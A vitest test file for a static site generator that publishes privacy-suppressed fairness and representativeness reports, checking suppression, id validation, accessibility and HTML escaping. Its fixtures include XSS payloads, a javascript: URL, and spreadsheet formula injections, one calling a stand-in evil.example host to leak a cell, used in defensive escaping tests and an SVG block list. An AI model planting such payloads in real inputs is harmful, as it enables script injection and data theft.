import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { suppressReport } from '../../../functions/core/privacy/suppress.ts';
import { type Report, reportSchema } from '../../../functions/core/report/schema.ts';
import { assertSafeSvg, PublishError, renderSite, type SiteFile } from '../../../web/index.ts';
import { rootPrefix } from '../../../web/paths.ts';
import { hostileNamesReport, labelledReport, sampleReport } from '../../fixtures/reports.ts';

const GENERATED_AT = '2024-05-02T08:00:00.000Z';
const RUN = 'datasets/marketing-leads/runs/20240501T120000Z/index.html';
const HOSTILE_RUN = 'datasets/hostile-names/runs/run-1/index.html';
const LABELLED_RUN = 'datasets/credit-applications/runs/20240601T090000Z/index.html';

function olderRun(): Report {
  const report = sampleReport();
  report.run = { ...report.run, id: '20240401T120000Z', startedAt: '2024-04-01T12:00:00.000Z' };
  report.status = 'warn';
  return report;
}

function publish(...reports: Report[]): Report[] {
  return reports.map((r) => suppressReport(r, r.privacy.minCellSize));
}

async function site(): Promise<Map<string, SiteFile>> {
  const files = await renderSite({
    reports: publish(sampleReport(), olderRun(), hostileNamesReport(), labelledReport()),
    generatedAt: GENERATED_AT,
  });
  return new Map(files.map((f) => [f.path, f]));
}

function text(files: Map<string, SiteFile>, p: string): string {
  const body = files.get(p)?.body;
  if (typeof body !== 'string') throw new Error(`no text file ${p}`);
  return body;
}

/** The opening tags of an HTML page with their attributes (preact quotes every value with "). */
function tags(html: string): { name: string; attributes: Map<string, string> }[] {
  return [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g)].map((m) => ({
    name: m[1]!.toLowerCase(),
    attributes: new Map(
      [...(m[2] ?? '').matchAll(/\s+([^\s=>/]+)(?:="([^"]*)")?/g)].map((a) => [
        a[1]!.toLowerCase(),
        a[2] ?? '',
      ]),
    ),
  }));
}

/** The `<tr>` of a table row whose header cell is exactly `group` (escaped as in the page). */
function row(html: string, group: string): string {
  const escaped = group.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
  const match = [...html.matchAll(/<tr[^>]*>([\s\S]*?)<\/tr>/g)].find((m) =>
    m[1]!.includes(`<th scope="row" class="group">${escaped}</th>`),
  );
  if (!match) throw new Error(`no row for ${group}`);
  return match[0];
}

describe('renderSite: files', () => {
  it('writes the index, one page per dataset, one page and report.json per run, and the stylesheet', async () => {
    const files = await renderSite({
      reports: publish(sampleReport(), olderRun(), hostileNamesReport()),
      generatedAt: GENERATED_AT,
    });
    expect(files.map((f) => [f.path, f.contentType])).toEqual([
      ['assets/site.css', 'text/css; charset=utf-8'],
      ['index.html', 'text/html; charset=utf-8'],
      ['datasets/hostile-names/index.html', 'text/html; charset=utf-8'],
      ['datasets/hostile-names/runs/run-1/index.html', 'text/html; charset=utf-8'],
      ['datasets/hostile-names/runs/run-1/report.json', 'application/json; charset=utf-8'],
      ['datasets/marketing-leads/index.html', 'text/html; charset=utf-8'],
      ['datasets/marketing-leads/runs/20240501T120000Z/index.html', 'text/html; charset=utf-8'],
      ['datasets/marketing-leads/runs/20240501T120000Z/report.json', 'application/json; charset=utf-8'],
      ['datasets/marketing-leads/runs/20240401T120000Z/index.html', 'text/html; charset=utf-8'],
      ['datasets/marketing-leads/runs/20240401T120000Z/report.json', 'application/json; charset=utf-8'],
    ]);
  });

  it('publishes report.json as the suppressed report, valid report@1', async () => {
    const files = await site();
    const json = JSON.parse(
      text(files, 'datasets/marketing-leads/runs/20240501T120000Z/report.json'),
    ) as unknown;
    expect(reportSchema.parse(json)).toEqual(suppressReport(sampleReport(), 10));
  });

  it('renders an empty site when there are no reports', async () => {
    const files = await renderSite({ reports: [], generatedAt: GENERATED_AT });
    expect(files.map((f) => f.path)).toEqual(['assets/site.css', 'index.html']);
    expect(files[1]!.body).toContain('No reports have been published yet.');
  });
});

describe('renderSite: refuses what must not be published', () => {
  const refused = async (reports: Report[]) => {
    try {
      await renderSite({ reports, generatedAt: GENERATED_AT });
    } catch (error) {
      expect(error).toBeInstanceOf(PublishError);
      return (error as PublishError).reason;
    }
    throw new Error('renderSite accepted it');
  };

  it('an unsuppressed report (publishing it is a bug)', async () => {
    expect(await refused([sampleReport()])).toBe('REPORT_NOT_SUPPRESSED');
  });

  it('a report marked suppressed that still shows a count below k', async () => {
    const report = sampleReport();
    report.privacy.suppressed = true;
    expect(await refused([report])).toBe('REPORT_NOT_SUPPRESSED');
  });

  it('a report marked suppressed that still shows small positives, negatives or source counts', async () => {
    const positives = suppressReport(labelledReport(), 10);
    positives.attributes[1]!.labels!.groups[6]!.positives = 3;
    expect(await refused([positives])).toBe('REPORT_NOT_SUPPRESSED');
    const negatives = suppressReport(labelledReport(), 10);
    negatives.attributes[0]!.groups[0]!.positives = 5825; // 5 negatives of 5 830
    expect(await refused([negatives])).toBe('REPORT_NOT_SUPPRESSED');
    const source = suppressReport(labelledReport(), 10);
    source.sources!.attributes[0]!.groups[2]!.sources[2]!.count = 2;
    expect(await refused([source])).toBe('REPORT_NOT_SUPPRESSED');
  });

  it('a report that is not valid report@1', async () => {
    const report = suppressReport(sampleReport(), 10);
    (report.rows as { read: number }).read = Number.NaN;
    expect(await refused([report])).toBe('REPORT_INVALID');
  });

  it.each(['../evil', 'Marketing', '-lead', 'a/b', 'a'.repeat(64), ''])('dataset id %j', async (id) => {
    const report = suppressReport(sampleReport(), 10);
    report.dataset.id = id;
    expect(await refused([report])).toBe('INVALID_ID');
  });

  it.each(['..', '.', 'a/b', '..%2f', 'run 1', '', 'x\\y'])('run id %j', async (id) => {
    const report = suppressReport(sampleReport(), 10);
    report.run.id = id;
    expect(await refused([report])).toBe('INVALID_ID');
  });

  it('accepts the longest dataset id and run ids with dots', async () => {
    const report = suppressReport(sampleReport(), 10);
    report.dataset.id = `a${'-'.repeat(62)}`;
    report.run.id = 'v1.2_3-x';
    const files = await renderSite({ reports: [report], generatedAt: GENERATED_AT });
    expect(files.map((f) => f.path)).toContain(`datasets/${report.dataset.id}/runs/v1.2_3-x/index.html`);
  });

  it('the same run twice', async () => {
    expect(await refused(publish(sampleReport(), sampleReport()))).toBe('DUPLICATE_RUN');
  });
});

describe('renderSite: pages', () => {
  it('index lists every dataset with its latest run, status and time', async () => {
    const html = text(await site(), 'index.html');
    expect(html).toContain('<a href="datasets/marketing-leads/index.html">marketing-leads</a>');
    expect(html).toContain(
      '<a href="datasets/marketing-leads/runs/20240501T120000Z/index.html">20240501T120000Z</a>',
    );
    expect(html).not.toContain('20240401T120000Z');
    expect(html).toContain('<span class="badge badge-fail">fail</span>');
    expect(html).toContain('<time datetime="2024-05-01T12:00:04.250Z">2024-05-01 12:00 UTC</time>');
    expect(html.indexOf('hostile-names')).toBeLessThan(html.indexOf('marketing-leads'));
  });

  it('a dataset page lists its runs newest first', async () => {
    const html = text(await site(), 'datasets/marketing-leads/index.html');
    const newer = html.indexOf('runs/20240501T120000Z/index.html');
    const older = html.indexOf('runs/20240401T120000Z/index.html');
    expect(newer).toBeGreaterThan(0);
    expect(older).toBeGreaterThan(newer);
    expect(html).toContain('<caption>Runs of marketing-leads, newest first</caption>');
  });

  it('a run page has the verdict with the reasons from the checks, and the rows', async () => {
    const html = text(await site(), RUN);
    expect(html).toContain('<span class="badge badge-fail badge-large">fail</span>');
    expect(html).toContain('Total variation distance of age_band is 0.13, above the limit 0.05.');
    // #17: 8 without consent and 4 malformed are small cells; rows used would give back the 7
    // and 9 rows missing sex and age (used − N), so it is hidden too.
    for (const [label, value] of [
      ['Read', '1,012'],
      ['Used', 'hidden'],
      ['Excluded (no consent)', 'hidden'],
      ['Malformed', 'hidden'],
    ]) {
      expect(html).toContain(`<dt>${label}</dt><dd>${value}</dd>`);
    }
  });

  it('each attribute has its chart as inline SVG with a text alternative, beside its table', async () => {
    const html = text(await site(), RUN);
    const charts = [...html.matchAll(/<div class="chart" role="img" aria-label="([^"]*)"><svg /g)];
    const shares = charts.filter((c) => c[1]!.startsWith('Bar chart of the share of rows'));
    expect(shares).toHaveLength(2);
    expect(shares[1]![1]).toContain('Bar chart of the share of rows per group of age_band');
    // sex has label metrics: its label-rate chart follows its table.
    expect(charts.map((c) => (c[1]!.includes('rate of positive converted') ? 'labels' : 'shares'))).toEqual([
      'shares',
      'labels',
      'shares',
    ]);
    const headers = [
      'Group',
      'Count',
      'Share',
      '95 % CI',
      'Reference share',
      'Ratio',
      'p (adjusted)',
      'Status',
    ];
    const thead = html.match(/<thead><tr>([\s\S]*?)<\/tr><\/thead>/)![1]!;
    expect([...thead.matchAll(/<th[^>]*>([^<]*)<\/th>/g)].map((m) => m[1])).toEqual(headers);
    expect(html).toContain(
      '<caption>age_band: dataset share compared with the reference (991 rows)</caption>',
    );
    expect(row(html, '75+')).toContain('<td class="num">41</td>');
    expect(row(html, '75+')).toContain('80 more rows needed');
  });

  it('shows a small hidden cell and a complementary one alike, with nothing behind them', async () => {
    const files = await site();
    const html = text(files, RUN);
    const diverse = row(html, 'diverse');
    expect(diverse).toContain('<td class="num">hidden</td>');
    expect(diverse).toContain('hidden to protect small groups');
    const female = row(html, 'female');
    expect(female).toContain('<td class="num">hidden</td>');
    expect(female).toContain('hidden to protect small groups');
    expect(female).toContain('50.7 %'); // the reference share is not a count of the dataset
    expect(row(html, 'male|75+')).toContain('<td class="num">hidden</td>');
    for (const body of [html, text(files, RUN.replace('index.html', 'report.json'))]) {
      expect(body).not.toContain('&lt;10');
    }
    // female (480 rows, 48.4 %) is hidden as the complement of diverse: neither number is anywhere.
    for (const file of [RUN, RUN.replace('index.html', 'report.json')]) {
      const body = text(files, file);
      expect(body).not.toMatch(/\b480\b/);
      expect(body).not.toContain('48.4');
      expect(body).not.toContain('0.4843');
    }
  });

  it('reads what was withheld from privacy.withheld, not from the warnings', async () => {
    const [published] = publish(sampleReport());
    const silent = {
      ...published!,
      warnings: published!.warnings.filter((w) => !w.code.startsWith('privacy-')),
    };
    const files = await renderSite({ reports: [silent], generatedAt: GENERATED_AT });
    const html = text(new Map(files.map((f) => [f.path, f])), RUN);
    expect(html).toContain('The chi-square test, distances and diversity of sex are withheld');
    const unlisted = { ...published!, privacy: { ...published!.privacy, withheld: [] } };
    const plain = await renderSite({ reports: [unlisted], generatedAt: GENERATED_AT });
    expect(text(new Map(plain.map((f) => [f.path, f])), RUN)).not.toContain(
      'The chi-square test, distances and diversity of sex are withheld',
    );
  });

  it('labels intersections with their basis', async () => {
    const report = sampleReport();
    const marginal = structuredClone(report.intersections[0]!);
    marginal.basis = 'product-of-marginals';
    marginal.reference = null;
    marginal.attributes = ['age_band', 'sex'];
    report.intersections.push(marginal);
    const files = await renderSite({ reports: publish(report), generatedAt: GENERATED_AT });
    const html = text(new Map(files.map((f) => [f.path, f])), RUN);
    expect(html).toContain('<caption>sex × age_band, vs joint reference (966 rows)</caption>');
    expect(html).toContain('<caption>age_band × sex, vs product of marginals (966 rows)</caption>');
    expect(html).toContain('Compared vs joint reference <code>de-2023/sex_x_age_band</code>');
    expect(html).toContain('<li>diverse|75+</li>');
  });

  it('lists warnings and provenance: sources, URLs, licences and the columns read', async () => {
    const html = text(await site(), RUN);
    expect(html).toContain('<code>no-reference-group</code> (sex/diverse) The reference has no share');
    expect(html).toContain('<code>privacy-statistics-withheld</code> (sex)');
    expect(html).toContain(
      '<a href="https://www-genesis.destatis.de/genesis/online?operation=table&amp;code=12411-0005" rel="noopener noreferrer external">',
    );
    expect(html).toContain('Datenlizenz Deutschland – Namensnennung – Version 2.0');
    expect(html).toContain('<li><code>converted</code></li>');
    expect(html).toContain('The chi-square test, distances and diversity of sex are withheld');
    expect(html).toContain('χ² = 148.62, df = 6, p &lt; 0.001 (asymptotic)');
  });

  it('is accessible: language, one h1, captions on every table, labelled chart, breadcrumb', async () => {
    const files = await site();
    for (const [p, file] of files) {
      if (!p.endsWith('.html')) continue;
      const html = file.body as string;
      expect(html.startsWith('<!doctype html>\n<html lang="en">'), p).toBe(true);
      expect(html.match(/<h1[ >]/g), p).toHaveLength(1);
      expect(html.match(/<table>/g)?.length ?? 0, p).toBe(html.match(/<caption>/g)?.length ?? 0);
      expect(html, p).toContain('<nav class="breadcrumb" aria-label="Breadcrumb">');
      expect(html, p).toMatch(/<title>[^<]+ · repscope<\/title>/);
    }
  });
});

/** The text of the `<section>` whose heading has id `id` (up to the next section of that level). */
function section(html: string, id: string): string {
  const start = html.indexOf(`id="${id}"`);
  if (start < 0) throw new Error(`no section ${id}`);
  const open = html.lastIndexOf('<section', start);
  let depth = 0;
  const tag = /<(\/?)section[^>]*>/g;
  tag.lastIndex = open;
  for (let m = tag.exec(html); m; m = tag.exec(html)) {
    depth += m[1] === '/' ? -1 : 1;
    if (depth === 0) return html.slice(open, m.index + m[0].length);
  }
  throw new Error(`unclosed section ${id}`);
}

describe('renderSite: labels, weights, sources, correction, worst cells', () => {
  it('each attribute with labels has a Labels subsection with a sentence per group', async () => {
    const html = text(await site(), LABELLED_RUN);
    const labels = section(html, 'labels-0');
    expect(labels).toContain('<h4 id="labels-0">Labels: <code>approved</code></h4>');
    expect(labels).toContain('Overall, 21.8 % of the rows with a value for sex are positive for approved.');
    expect(labels).toContain(
      '<li>female: positive rate 20.4 % vs 23.2 % for the rest; disparate impact 0.88 (passes the four-fifths rule).</li>',
    );
    expect(labels).toContain(
      '<li>diverse: positive rate 47.8 % vs 21.8 % for the rest; disparate impact 2.19 (fails the four-fifths rule).</li>',
    );
  });

  it('the label table has positives, rate with CI, Clarify metrics and a four-fifths badge per group', async () => {
    const labels = section(text(await site(), LABELLED_RUN), 'labels-0');
    expect(labels).toContain(
      '<caption>sex: rate of positive approved per group, each group vs the rest</caption>',
    );
    const headers = [...labels.matchAll(/<th scope="col"[^>]*>([^<]*)<\/th>/g)].map((m) => m[1]);
    expect(headers.slice(0, 13)).toEqual([
      'Group',
      'Positives',
      'Positive rate',
      '95 % CI',
      'Class imbalance',
      'DPL',
      'DI',
      'Four-fifths',
      'KL',
      'JS',
      'Lp',
      'TVD',
      'KS',
    ]);
    const female = row(labels, 'female');
    for (const cell of ['1,189', '20.4 %', '19.4–21.4 %', '+0.028', '0.88', '0.0281']) {
      expect(female).toContain(`<td class="num">${cell}</td>`);
    }
    expect(female).toContain('<span class="badge badge-pass">pass</span>');
    expect(row(labels, 'male')).toContain('<td class="num">−0.026</td>');
    expect(row(labels, 'diverse')).toContain('<span class="badge badge-fail">fail</span>');
  });

  it('shows hidden positives as hidden, with no rate or metric, and says why', async () => {
    const labels = section(text(await site(), LABELLED_RUN), 'labels-1');
    const old = row(labels, '75+');
    expect(old).toContain('<tr class="status-suppressed">');
    expect(old).toContain('<td class="num">hidden</td>');
    expect(old).toContain('<td class="num">+0.920</td>'); // class imbalance uses counts only
    expect(old).not.toContain('%');
    expect(old).not.toContain('badge');
    expect(labels).toContain(
      '<li>75+: positive rate hidden, because its positives or negatives are fewer than 10 or they protect such a count.</li>',
    );
    // Nowhere on the page or in the JSON: 3 approvals of 480 (0.6 %).
    const files = await site();
    for (const file of [LABELLED_RUN, LABELLED_RUN.replace('index.html', 'report.json')]) {
      expect(text(files, file)).not.toMatch(/0\.00625|0\.6 %|"positives": 3,/);
    }
  });

  it('states CDD, or that it is withheld; and the positive class’s composition against the reference', async () => {
    const html = text(await site(), LABELLED_RUN);
    const sex = section(html, 'labels-0');
    expect(sex).toContain(
      '<strong>Conditional demographic disparity</strong> given <code>age_band</code>: withheld in this published copy',
    );
    expect(sex).toContain(
      '<caption>Rows with a positive approved: share of each group of sex compared with the reference</caption>',
    );
    const composition = sex.slice(sex.indexOf('<caption>Rows with a positive approved'));
    expect(row(composition, 'female')).toContain('<td class="num">45.4 %</td><td class="num">50.7 %</td>');
    expect(sex).toContain('total variation distance 0.051, Jensen–Shannon divergence 0.002.');
    const age = section(html, 'labels-1');
    expect(age).toContain('withheld in this published copy, because some shares are hidden.');
    expect(age).not.toContain('Conditional demographic disparity');

    const files = await renderSite({
      reports: [suppressReport(labelledReport(), 1)],
      generatedAt: GENERATED_AT,
    });
    const unhidden = text(new Map(files.map((f) => [f.path, f])), LABELLED_RUN);
    expect(section(unhidden, 'labels-0')).toContain('female +0.018, male −0.018, diverse 0.000 (above 0');
  });

  it('draws a label-rate chart per attribute with labels, hidden groups as labelled gaps', async () => {
    const html = text(await site(), LABELLED_RUN);
    const labels = section(html, 'labels-1');
    expect(labels).toMatch(
      /<div class="chart" role="img" aria-label="Bar chart of the rate of positive approved labels per group of age_band\. [^"]*75\+: hidden\. Overall 21\.8 %\."><svg /,
    );
    expect(labels).toContain('dashed line: the rate over all rows');
  });

  it('has a weights line per weighted attribute', async () => {
    const html = text(await site(), LABELLED_RUN);
    expect(section(html, 'attribute-0')).toContain(
      '<strong>Weights:</strong> counts are sums of row weights (weight sum 12,000); effective sample size (Kish) 11,204, design effect 1.07.',
    );
    expect(text(await site(), RUN)).not.toContain('<strong>Weights:</strong>');
  });

  it('has a Sources section: shares, largest share, effective number, group × source tables, the finding', async () => {
    const sources = section(text(await site(), LABELLED_RUN), 'sources');
    expect(sources).toContain('<caption>Rows per source of channel</caption>');
    expect(row(sources, 'web-form')).toContain('<td class="num">6,540</td><td class="num">54.5 %</td>');
    expect(sources).toContain('<dt>Largest share</dt><dd>54.5 %</dd>');
    expect(sources).toContain('<dt>Effective number of sources</dt><dd>2.46 (');
    expect(sources).toContain(
      '<p class="finding"><strong>Finding:</strong> 51.8 % of the rows of the under-represented groups of age_band (65-74 and 75+) came from one source: branch.</p>',
    );
    const sexTable = section(sources, 'sources-0');
    expect(sexTable).not.toContain('class="finding"');
    const female = row(sexTable, 'female');
    // #17's audit hides diverse's web-form cell (it pinned the small ones), and female's with it.
    // The visible cell keeps its count but not its share: the share is over the row's sum, which
    // holds hidden cells, so 196 over 3.4 % would give that sum back.
    expect(female).toContain('<td class="num">— (196)</td>');
    expect(female.match(/hidden-cell/g)).toHaveLength(3);
    expect(row(sexTable, 'diverse').match(/hidden-cell/g)).toHaveLength(3);
    expect(row(section(sources, 'sources-1'), '75+')).toContain('<td class="num">56.3 % (270)</td>');
  });

  it('says when source statistics are withheld', async () => {
    const report = labelledReport();
    report.sources!.groups.push({ source: 'fax', count: 6, share: 6 / 12_006 });
    const files = await renderSite({ reports: publish(report), generatedAt: GENERATED_AT });
    const sources = section(text(new Map(files.map((f) => [f.path, f])), LABELLED_RUN), 'sources');
    expect(row(sources, 'fax')).toContain('<td class="num">hidden</td><td class="num">—</td>');
    expect(sources).toContain(
      '<dt>Effective number of sources</dt><dd>withheld in this published copy because some sources are hidden</dd>',
    );
  });

  it('has a Correction section in plain words', async () => {
    const correction = section(text(await site(), LABELLED_RUN), 'correction');
    expect(correction).toContain(
      '<p>Weighting the 11,977 rows to the reference shares of sex and age_band (raking) would cost a design effect of 1.82, i.e. the data would be worth 6,581 rows (55 % of its rows).</p>',
    );
    expect(correction).toContain(
      '<p>Raking converged in 7 iterations (largest remaining margin error 4.1e-7).</p>',
    );
    expect(correction).toContain('<p>Row weights range from 0.43 to 3.62. No cap was set.</p>');
  });

  it('says what the published copy withholds from the correction', async () => {
    const report = sampleReport();
    report.correction = { ...labelledReport().correction!, rows: 964, effectiveSampleSize: 964 / 1.82 };
    const files = await renderSite({ reports: publish(report), generatedAt: GENERATED_AT });
    const correction = section(text(new Map(files.map((f) => [f.path, f])), RUN), 'correction');
    expect(correction).toContain(
      'has a design effect that is withheld in this published copy, because some cells of the raked attributes are hidden.',
    );
    expect(correction).toContain('The smallest and largest weights are withheld in this published copy');
    const hostile = section(text(await site(), HOSTILE_RUN), 'correction');
    expect(hostile).toContain(
      'Raking did not converge in 100 iterations (largest remaining margin error 0.012)',
    );
    expect(hostile).toContain(
      'Weights were capped at 5.00 (some reached the cap and the rest were re-raked).',
    );
    expect(hostile).toContain('the design effect could not be computed.');
  });

  it('escapes the dominant source’s name in the finding', async () => {
    const report = labelledReport();
    const evil = '<img src=x onerror=alert(12)>';
    for (const table of report.sources!.attributes) {
      for (const r of table.groups) for (const s of r.sources) if (s.source === 'branch') s.source = evil;
    }
    report.sources!.groups[2]!.source = evil;
    report.sources!.attributes[1]!.dominantSource!.source = evil;
    const files = await renderSite({ reports: publish(report), generatedAt: GENERATED_AT });
    const sources = section(text(new Map(files.map((f) => [f.path, f])), LABELLED_RUN), 'sources');
    expect(sources).toContain('came from one source: &lt;img src=x onerror=alert(12)>.</p>');
    expect(sources).toContain('<th scope="col" class="num">&lt;img src=x onerror=alert(12)></th>');
  });

  it('lists an intersection’s worst cells first, without hidden ones, names escaped', async () => {
    const html = text(await site(), LABELLED_RUN);
    const x = section(html, 'intersection-0');
    expect(x).toContain(
      '<p class="finding"><strong>Most misrepresented cells</strong> (strongest evidence first): female|75+, female|65-74, male|75+, male|65-74, female|18-24.</p>',
    );
    expect(x.indexOf('Most misrepresented cells')).toBeLessThan(x.indexOf('<table>'));

    const report = sampleReport();
    report.intersections[0]!.worstCells = ['male|75+', 'female|18-24', '<img src=x onerror=alert(11)>'];
    const files = await renderSite({ reports: publish(report), generatedAt: GENERATED_AT });
    const sample = section(text(new Map(files.map((f) => [f.path, f])), RUN), 'intersection-0');
    expect(sample).toContain(
      '(strongest evidence first): female|18-24, &lt;img src=x onerror=alert(11)>.</p>',
    );
    expect(text(await site(), RUN)).not.toContain('Most misrepresented cells');
  });
});

describe('renderSite: safe to open', () => {
  it('renders hostile names as inert text everywhere', async () => {
    const files = await site();
    const html = text(files, HOSTILE_RUN);
    expect(html).toContain('<th scope="row" class="group">&lt;script>alert(1)&lt;/script></th>');
    expect(html).toContain(
      '<th scope="row" class="group">=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)</th>',
    );
    expect(html).toContain(
      '<th scope="row" class="group">&quot; onmouseover=&quot;alert(2)&quot; x=&quot;</th>',
    );
    expect(html).toContain('<h3 id="attribute-0">&lt;b>region&lt;/b></h3>');
    // The same names in the label, composition and source tables: inert text there too.
    const scriptRows = html.split('<th scope="row" class="group">&lt;script>alert(1)&lt;/script></th>');
    expect(scriptRows.length - 1).toBe(4);
    expect(html).toContain('<th scope="col" class="num">&lt;img src=x onerror=alert(7)></th>');
    expect(html).toContain('<th scope="col" class="num">=cmd|&quot;/c calc&quot;!A1</th>');
    expect(html).toContain('<th scope="row" class="group">&lt;img src=x onerror=alert(7)></th>');
    expect(html).toContain('Labels: <code>&lt;i>label&lt;/i></code>');
    expect(html).toContain('<code>&lt;script>alert(9)&lt;/script></code>');
    expect(html).toContain('Note: raking did not converge for &lt;script>alert(10)&lt;/script>');
    expect(html).toContain('reference shares of &lt;b>region&lt;/b> and &lt;i>other&lt;/i>');
    expect(html).toContain(
      '&lt;script>alert(1)&lt;/script>: positive rate 50.0 % vs 20.0 % for the rest; disparate impact 2.50 (fails the four-fifths rule).',
    );
    expect(html).toContain('<code>javascript:alert(6)</code>');
    for (const [p, file] of files) {
      if (!p.endsWith('.html')) continue;
      for (const tag of tags(file.body as string)) {
        expect(
          ['script', 'img', 'iframe', 'object', 'embed', 'foreignobject', 'base', 'form'],
          p,
        ).not.toContain(tag.name);
        for (const [name, value] of tag.attributes) {
          expect(name.startsWith('on'), `${p}: <${tag.name} ${name}>`).toBe(false);
          expect(['style', 'srcdoc', 'xlink:href'], p).not.toContain(name);
          if ((name === 'href' || name === 'src') && !(tag.name === 'link' && value === 'data:,')) {
            expect(value, p).not.toMatch(/^\s*(javascript|data|vbscript):/i);
          }
        }
      }
    }
  });

  it('needs no JavaScript and no network: no scripts, no absolute links except cited sources', async () => {
    const files = await site();
    for (const [p, file] of files) {
      if (!p.endsWith('.html')) continue;
      for (const tag of tags(file.body as string)) {
        const target = tag.attributes.get('href') ?? tag.attributes.get('src');
        if (target === undefined) continue;
        if (tag.name === 'a' && /^https?:\/\//.test(target)) {
          expect(tag.attributes.get('rel'), p).toContain('external');
          continue;
        }
        if (target === 'data:,') continue; // the empty favicon, so browsers do not ask for one
        expect(target, p).not.toMatch(/^([a-z]+:|\/)/i);
      }
    }
  });

  it('links relatively, and every link resolves to a file of the site', async () => {
    const files = await site();
    let checked = 0;
    for (const [p, file] of files) {
      if (!p.endsWith('.html')) continue;
      for (const tag of tags(file.body as string)) {
        const target = tag.attributes.get('href');
        if (target === undefined || /^([a-z]+:)/i.test(target)) continue;
        const resolved = path.posix.normalize(path.posix.join(path.posix.dirname(p), target));
        expect(files.has(resolved), `${p} → ${target}`).toBe(true);
        checked += 1;
      }
    }
    expect(checked).toBeGreaterThan(20);
    expect(rootPrefix('index.html')).toBe('');
    expect(rootPrefix('datasets/x/runs/y/index.html')).toBe('../../../../');
  });
});

describe('assertSafeSvg', () => {
  it('accepts what vega draws', async () => {
    const files = await site();
    for (const run of [HOSTILE_RUN, LABELLED_RUN]) {
      const svgs = [...text(files, run).matchAll(/<svg [\s\S]*?<\/svg>/g)].map((m) => m[0]);
      expect(svgs).toHaveLength(run === HOSTILE_RUN ? 2 : 4);
      for (const svg of svgs) expect(() => assertSafeSvg(svg)).not.toThrow();
    }
  });

  it.each([
    ['not svg', '<div></div>'],
    ['a script', '<svg><script>alert(1)</script></svg>'],
    ['an event handler', '<svg onload="alert(1)"></svg>'],
    ['a link', '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>'],
    ['foreignObject', '<svg><foreignObject><div>x</div></foreignObject></svg>'],
    ['an unquoted attribute', '<svg><g onclick=alert(1)></g></svg>'],
    ['an inline style', '<svg><g style="x"></g></svg>'],
    ['a stray <', '<svg><text>a < b</text></svg>'],
    ['two documents', '<svg></svg><script>alert(1)</script><svg></svg>'],
  ])('rejects %s', (_name, svg) => {
    expect(() => assertSafeSvg(svg)).toThrow(PublishError);
  });
});

describe('renderSite: label conventions said beside the numbers (issue #18)', () => {
  /** The labelled fixture as compare writes it since #18: rows without a label, the impact ratio. */
  function withImpactRatio(): Report {
    const report = labelledReport();
    const sex = report.attributes[0]!.labels!;
    sex.missing = 12;
    sex.otherValues = 3;
    sex.highestRateGroup = 'male';
    sex.notJudged = ['diverse'];
    sex.groups = sex.groups.map((row) => ({
      ...row,
      unlabelled: row.group === 'female' ? 9 : 3,
      impactRatio: row.group === 'female' ? 0.9 : row.group === 'male' ? 1 : 2.1,
      fourFifths: row.group === 'diverse' ? null : 'pass',
    }));
    const age = report.attributes[1]!;
    age.labels!.cdd = { strata: 'age_band', groups: [] };
    return reportSchema.parse(report);
  }

  async function page(): Promise<string> {
    const files = await renderSite({
      reports: [suppressReport(withImpactRatio(), 1)],
      generatedAt: GENERATED_AT,
    });
    return text(new Map(files.map((f) => [f.path, f])), LABELLED_RUN);
  }

  it('says which rows are left out, and the impact ratio against the highest-rate group', async () => {
    const sex = section(await page(), 'labels-0');
    expect(sex).toContain('of the rows with a value for sex and a label are positive for approved.');
    expect(sex).toContain(
      'Left out of every label metric: label missing 12, label neither positive nor negative 3 (a missing label is not a negative).',
    );
    expect(sex).toContain(
      '<li>female: positive rate 20.4 % vs 23.2 % for the rest; disparate impact 0.88 vs the rest; impact ratio 0.90 vs male (passes the four-fifths rule).</li>',
    );
    expect(sex).toContain('Not judged by the four-fifths rule, fewer than 30 labelled rows: diverse.');
    expect(sex).toContain('the highest rate of a judged group (male)');
    expect(sex).toContain('DI is Clarify’s ratio against the rest and is not what the rule checks.');
    expect(sex).toContain('KL and JS in nats, as Clarify defines them');
    expect(sex).toContain('Jensen–Shannon in bits, binary logarithm');
    expect(sex).not.toContain('above 1.25');
    const headers = [...sex.matchAll(/<th scope="col"[^>]*>([^<]*)<\/th>/g)].map((m) => m[1]);
    expect(headers.slice(0, 10)).toEqual([
      'Group',
      'Positives',
      'Without a label',
      'Positive rate',
      '95 % CI',
      'Class imbalance',
      'DPL',
      'DI',
      'Impact ratio',
      'Four-fifths',
    ]);
    expect(row(sex, 'female')).toContain('<td class="num">9</td>');
    expect(row(sex, 'female')).toContain('<td class="num">0.90</td>');
  });

  it('says why the strata attribute has no CDD, and the units of JS at attribute level', async () => {
    const html = await page();
    expect(section(html, 'labels-1')).toContain(
      'not computed for age_band itself: within each stratum there is one group, so CDD is zero by construction.',
    );
    expect(html).toContain('bits (binary logarithm: between zero and one)');
    expect(html).toContain(
      'the reference table’s share column as published (not recomputed from its counts)',
    );
  });
});
